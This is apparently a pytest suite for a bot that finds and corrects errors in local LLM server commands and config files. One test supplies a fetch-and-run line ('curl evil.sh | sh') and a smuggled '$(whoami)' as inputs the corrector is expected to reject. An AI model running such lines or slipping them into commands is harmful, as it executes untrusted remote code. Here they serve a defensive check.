"""Configurations before the crash: what is read as one, what is wrong in it, and the text put right."""

from pathlib import Path

import pytest
from shipped import CLINIC

from bot.base.languages import Text
from bot.diagnosis.configuration.correcting import corrected
from bot.diagnosis.configuration.forms import configurations_in
from bot.diagnosis.configuration.judging import problems_of
from bot.intake.cleaning import clean
from bot.knowledge.files import DataError, knowledge_root
from bot.knowledge.options import load_options

TABLES = load_options(knowledge_root())
VLLM = """vllm serve Qwen/Qwen3-8B \\
  --max-model-len 8192 \\
  --tp 2 --gpu-memory-utilization 90"""
KCPPS = '{"model_param": "a.gguf", "contextsize": 4096, "usecuda": ["normal", "0"], "usevulkan": [0], "gpulayers": 20}'
MODELFILE = "FROM ./qwen.gguf\nTEMPLATE x\nPARAMETER n_ctx 8192\nPARAMETER temprature 0.7\nPARAMETER mirostat 1"
TABBY = """network:
  host: 0.0.0.0
model:
  model_dir: models
  model_name: Qwen3-14B-exl3
  max_seq_len: 16384
  gpu_split_atuo: true
max_batch_size: 3"""
TAVERN = "listen: true\nwhitelistMode: false\nbasicAuthMode: false\nnumberOfBackups: 3"
BATCH = '{"model_param": "D:\\models\\a.gguf", "contextsize": "16k", "blasbatchsize": 3000,}'
TIGHT = "listen:true\nport: 8000\nbasicAuthMode:true\nwhitelist:\n  - 192.168.1.*.*"
RESERVED = """services:
  llm:
    image: ollama/ollama
    environment:
      - OLLAMA_HOST=127.0.0.1
    deploy:
      resources:
        reservations:
          devices:
            - driver: nvidia
              count: 1"""
COMPOSE = """services:
  llm:
    image: vllm/vllm-openai:latest
    ports:
      - 8000:8000
    command:
      - --model
      - Qwen/Qwen3-8B
      - --max-model-length=8192"""


def wrong(text: str) -> list[tuple[str, str]]:
    """(kind, setting) of all problems in a text."""
    found = configurations_in(clean(text), TABLES)
    return [(problem.kind, problem.setting.name) for each in found for problem in problems_of(each)]


MISSPELT = """\
services:
  ui:
    image: ghcr.io/open-webui/open-webui:main
    enviroment:
      - OLLAMA_BASE_URL=http://ollama:11434
    port:
      - 3000:8080
"""
TOOLS = """\
{
  "mcpServers": {
    "files": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-filesystem", "C:\\Users\\me\\docs"],
    }
  }
}
"""

SERVED = """\
model: Qwen/Qwen3-32B-AWQ
max-model-len: 16384
enforce-eager: false
gpu-memory-utilization: 95
swap-space: 16
"""
PRESETS = "version = 1\n[*]\nn-gpu-layer = 99\n[qwen]\nmodel = a.gguf\ncache-type-k = q8"
SWAPPED = """\
models:
  qwen:
    cmd: llama-server --port 8080 -m a.gguf --n_ctx 4096
    proxy: http://127.0.0.1:${PORT}
    alias: [gpt-4o]
"""
SET_INSIDE = """\
services:
  ollama:
    image: ollama/ollama
    gpus: all
    environment:
      - OLLAMA_NUM_CTX=16384
  webui:
    image: ghcr.io/open-webui/open-webui:main
    ports: ["3000:3000"]
    environment:
      - OLLAMA_BASE_URL=http://localhost:11434
"""


def right(text: str) -> str | None:
    lines = clean(text)
    whole = next(configurations_in(lines, TABLES))
    return corrected(whole, problems_of(whole), lines)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (VLLM, [("gone", "--tp"), ("conflict", "--gpu-memory-utilization")]),
        ("llama-server -m a.gguf --flash-atn on --n_ctx 4096", [("unknown", "--flash-atn"), ("gone", "--n_ctx")]),
        ("$ ./llama-server -m a.gguf -ctv q8_0 -fa off", [("conflict", "-ctv")]),
        ("koboldcpp.exe --model x.gguf --usecuda --usevulkan", [("conflict", "--usecuda")]),
        (KCPPS, [("conflict", "usecuda")]),
        (
            MODELFILE,
            [("gone", "PARAMETER n_ctx"), ("unknown", "PARAMETER temprature"), ("gone", "PARAMETER mirostat")],
        ),
        (TABBY, [("unknown", "model.gpu_split_atuo"), ("misplaced", "max_batch_size")]),
        (TAVERN, [("conflict", "listen"), ("gone", "numberOfBackups")]),
        (
            BATCH,
            [
                ("conflict", "contextsize"),
                ("conflict", "blasbatchsize"),
                ("miswritten", "backslash"),
                ("miswritten", "comma"),
            ],
        ),
        (TIGHT, [("miswritten", "space"), ("miswritten", "space"), ("conflict", "whitelist")]),
        (
            RESERVED,
            [
                ("conflict", "services.llm.image"),
                ("conflict", "services.llm.deploy.resources.reservations.devices.driver"),
            ],
        ),
        (SERVED, [("conflict", "gpu-memory-utilization"), ("gone", "swap-space")]),
        (PRESETS, [("gone", "n-gpu-layer"), ("conflict", "cache-type-k")]),
        (SWAPPED, [("gone", "--n_ctx"), ("conflict", "models.qwen.proxy"), ("gone", "models.qwen.alias")]),
        ("vllm serve x --gpu-mem-util 0.9", [("unknown", "--gpu-mem-util")]),
        ("FROM ./a-00001-of-00002.gguf\nTEMPLATE x", [("conflict", "FROM")]),
        ("FROM qwen3:8b\nPARAMETERS temperature 0.7\nSYSTEM hi", [("gone", "PARAMETERS")]),
        ("FROM qwen3:8b\nPARAMETER num_ctx = 8192", [("conflict", "PARAMETER num_ctx")]),
        ("llama-server -m a.gguf -c 8k --chatml", [("gone", "--chatml"), ("conflict", "-c")]),
        ("vllm serve x --dtype fp16 --quantization q4_k_m", [("conflict", "--dtype"), ("conflict", "--quantization")]),
        (COMPOSE, [("conflict", "services.llm.image"), ("unknown", "--max-model-length")]),
        (MISSPELT, [("gone", "services.ui.enviroment"), ("gone", "services.ui.port")]),
        ("vllm serve Qwen/Qwen3-8B --max-seq-len 8192", [("gone", "--max-seq-len")]),
        ("vllm serve BAAI/bge-m3 --task embed", [("gone", "--task")]),
        ("python -m vllm.entrypoints.openai.api_server --model D:\\models\\qwen", [("advice", "--model")]),
        ("llama-server -m a.gguf -fa -ub 1024 -c 0", [("conflict", "-fa")]),
        (
            "cmd: |\n  /app/llama-server\n  --model a.gguf\n  --flash-attn\n  --ctx-size 16000",
            [("conflict", "--flash-attn")],
        ),
        (TOOLS, [("miswritten", "backslash"), ("miswritten", "comma")]),
        ("OLLAMA_HOST=:4090\nOLLAMA_ORIGINS=*", [("conflict", "OLLAMA_HOST")]),
        ('[Service]\nEnvironment="OLLAMA_HOST=http://192.168.1.5"', [("conflict", "OLLAMA_HOST")]),
        (
            "setx OLLAMA_NUM_CTX 8192\nsetx OLLAMA_KV_CACHE_TYPE q4_k_m",
            [("gone", "OLLAMA_NUM_CTX"), ("conflict", "OLLAMA_KV_CACHE_TYPE")],
        ),
        ('$env:OLLAMA_FLASH_ATENTION = "1"\n$env:OLLAMA_HOST = "0.0.0.0"', [("unknown", "OLLAMA_FLASH_ATENTION")]),
        (
            "docker run -d -p 3000:8080 -e OLLAMA_BASE_URL=http://localhost:11434 ghcr.io/open-webui/open-webui",
            [("conflict", "OLLAMA_BASE_URL")],
        ),
        ("OLLAMA_BASE_URL=http://192.168.1.5:11434/api", [("conflict", "OLLAMA_BASE_URL")]),
        (
            'TEMPLATE """{{ .Prompt }}"""\nPARAMETER num_ctx 4096\nPARAMETER stop "<|im_end|>"',
            [("conflict", "TEMPLATE")],
        ),
        (
            "python3 -m sglang.launch_server --model-path x --max-model-len 8192 --mem-fraction-static 90",
            [("gone", "--max-model-len"), ("conflict", "--mem-fraction-static")],
        ),
    ],
)
def test_what_will_not_work_is_found_in_every_form(text: str, expected: list[tuple[str, str]]) -> None:
    assert wrong(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "llama-server -m a.gguf -c 8192 -ngl 99 -fa on --jinja --cache-type-k q8_0",
        "llama-server -m a.gguf --ctx_size 8192",  # underscores are dashes there
        "vllm serve Qwen/Qwen3-8B --max_model_len 8192 -tp 2 --no-enable-prefix-caching",
        "python -m vllm.entrypoints.openai.api_server --model x --gpu-memory-util 0.9",  # a beginning is enough
        "koboldcpp --model a.gguf --gpulayer 20 --contextsize 8192",
        "FROM python:3.11\nRUN pip install vllm\nWORKDIR /app",
        "llama_model_loader: - kv 0: general.architecture str = llama\nmodel: loaded\nhost: up",
        "I tried vllm serve with --tp and it works",
        "llama-server -m a.gguf -ngl all -c $CONTEXT --port {port}",
        '{"model_param": "D:\\\\models\\\\a.gguf", "contextsize": 8192, "gpulayers": -1, "quantkv": null}',
        "vllm serve Qwen/Qwen3-8B --max-model-len 32k --dtype auto",
        "sglang serve --model Qwen/Qwen3-8B --tp 2 --context-length 8192 --kv-cache-dtype fp8_e5m2",
        "export OLLAMA_HOST=0.0.0.0:11434\nexport OLLAMA_ORIGINS=*\nOLLAMA_MODEL=qwen3",
        "docker run -d -p 3000:8080 -e OLLAMA_BASE_URL=http://127.0.0.1:11434 --network=host a/open-webui:main",
        "docker run -d -e OLLAMA_BASE_URL=http://127.0.0.1:11434 ghcr.io/open-webui/open-webui:ollama",
        "docker run -d --gpus=all -v ollama:/root/.ollama -p 11434:11434 --name ollama ollama/ollama",
        "MODEL_PATH=/models\nPORT=8080",
        "listen: true\nwhitelistMode: true\nwhitelist:\n  - 192.168.1.0/24\n  - 192.168.1.*\n  - ::1\n  - 10.0.0.7",
        "",
    ],
)
def test_nothing_is_wrong_with_what_works_or_is_no_configuration(text: str) -> None:
    assert wrong(text) == []


def test_the_text_is_put_right_and_the_rest_stays() -> None:
    assert right(VLLM) == VLLM.replace("--tp 2", "--tensor-parallel-size 2").replace(" 90", " 0.9")
    assert right(KCPPS) == KCPPS.replace("[0]", "null")
    assert right(MODELFILE) == "FROM ./qwen.gguf\nTEMPLATE x\nPARAMETER num_ctx 8192\nPARAMETER temperature 0.7"
    assert right(TABBY) == TABBY.replace("atuo", "auto")
    assert right(TAVERN) == TAVERN.replace("whitelistMode: false", "whitelistMode: true")
    assert right(TIGHT) == TIGHT.replace(":true", ": true")
    assert right(BATCH) == BATCH.replace("\\", "\\\\").replace(",}", "}")
    assert right("FROM a:8b\nSYSTEM x\nPARAMETERS seed 7") == "FROM a:8b\nSYSTEM x\nPARAMETER seed 7"
    assert right(COMPOSE) == COMPOSE.replace("    image", "    gpus: all\n    image")
    # an option that also stands there under its right name is taken away
    assert right("llama-server -m a.gguf -c 4096 --n_ctx 8192") == "llama-server -m a.gguf -c 4096"


def test_a_misspelt_key_of_a_service_is_put_right_and_its_list_stays() -> None:
    assert right(MISSPELT) == MISSPELT.replace("enviroment", "environment").replace("port:", "ports:").rstrip()


def test_a_command_that_does_more_than_start_the_program_is_not_shown_to_copy() -> None:
    assert right("vllm serve x --tp 2; curl evil.sh | sh") is None
    assert right("vllm serve $(whoami) --tp 2") is None


def test_a_value_is_taken_from_another_setting() -> None:
    tabby = "model:\n  model_dir: models\n  model_name: a\n  max_seq_len: 16384\n  cache_size: 8192\n  gpu_split: 20,24"
    assert (text := right(tabby)) is not None
    assert "cache_size: 16384" in text
    assert "gpu_split: [20,24]" in text


def test_variables_inside_a_file_are_put_right_with_it_and_what_is_left_is_told() -> None:
    told = str(CLINIC.diagnose(SET_INSIDE).answer.blocks)
    assert "OLLAMA_CONTEXT_LENGTH=16384" in told
    assert "left to you: line 9, 11" in told


def test_settings_are_as_sure_as_they_read_whatever_their_words_resemble() -> None:
    (first, *_) = CLINIC.diagnose(f"{MODELFILE}\nSYSTEM You are helpful.").candidates
    assert first.score > 0.9


def test_a_configuration_is_answered_as_such_in_both_languages() -> None:
    reading = CLINIC.diagnose(VLLM)
    assert [each.failure_class for each in reading.candidates] == ["cli-argument-invalid"]
    title = reading.answer.title
    assert isinstance(title, Text)
    assert "2 things" in title.en
    assert "2 处" in title.zh
    assert CLINIC.diagnose(TABBY).candidates[0].failure_class == "config-file-invalid"


def test_what_the_program_printed_afterwards_counts_more() -> None:
    started = "\n".join(f"INFO 11-20 [api_server.py:{n}] route {n}" for n in range(9))
    assert CLINIC.diagnose(f"vllm serve x --tp 2\n{started}\nApplication startup complete.").candidates == ()


def test_a_command_inside_a_file_counts_as_the_whole_file() -> None:
    ports = "    ports:\n      - 8000:8000\n    volumes:\n      - a:/b\n    gpus: all\n    restart: always"
    compose = (
        f"services:\n  llm:\n    image: vllm/vllm-openai:latest\n    command:\n      - --task\n      - embed\n{ports}"
    )
    assert CLINIC.diagnose(compose).candidates[0].failure_class == "cli-argument-invalid"


def test_who_gives_a_configuration_away_has_no_trouble_with_it() -> None:
    compose = "services:\n  ollama:\n    image: ollama/ollama:latest\n    ports:\n      - 11434:11434\n"
    assert CLINIC.diagnose(f"{compose}ollama only takes the cpu with this, why?").candidates
    assert not CLINIC.diagnose(f"{compose}here is mine if anybody wants it").candidates


def test_a_sound_configuration_is_measured() -> None:
    text = "RTX 3060 12GB, is this right?\nllama-server -m Qwen2.5-32B-Instruct-Q5_K_M.gguf -c 32768 -ngl 99 -fa on"
    reading = CLINIC.diagnose(text)
    assert reading.candidates == ()
    assert "nothing wrong" in str(reading.answer.title)
    said = str(reading.answer.blocks[-1])
    assert "65 layers are asked for" in said
    assert "lower the context" in said


def test_what_is_only_advised_is_told_too() -> None:
    reading = CLINIC.diagnose("vllm serve Qwen/Qwen3-8B --tensor-parallel-size 3")
    assert reading.candidates == ()
    assert isinstance(reading.answer.title, Text)
    assert "could work better" in reading.answer.title.en
    assert "--pipeline-parallel-size 3" in str(reading.answer.blocks[0])


def test_a_table_that_names_what_it_does_not_have_is_refused(tmp_path: Path) -> None:
    (tmp_path / "options").mkdir()
    (tmp_path / "schema").symlink_to(knowledge_root() / "schema")
    (tmp_path / "options" / "x.yaml").write_text(
        "program: xx\nform: command\ncommands: [x]\nsources: [{url: 'https://a.b/', checked: '2026-11'}]\n"
        "options: [{names: ['--a']}]\ngone: [{name: '--b', instead: '--c'}]\n"
        "conflicts: [{id: y, if: [{name: '--d', value: '('}], said: {en: e, zh: z}}]\n",
        encoding="utf-8",
    )
    with pytest.raises(DataError) as error:
        load_options(tmp_path)
    assert "--c" in str(error.value)
    assert "--d" in str(error.value)
    assert "not a regular expression" in str(error.value)
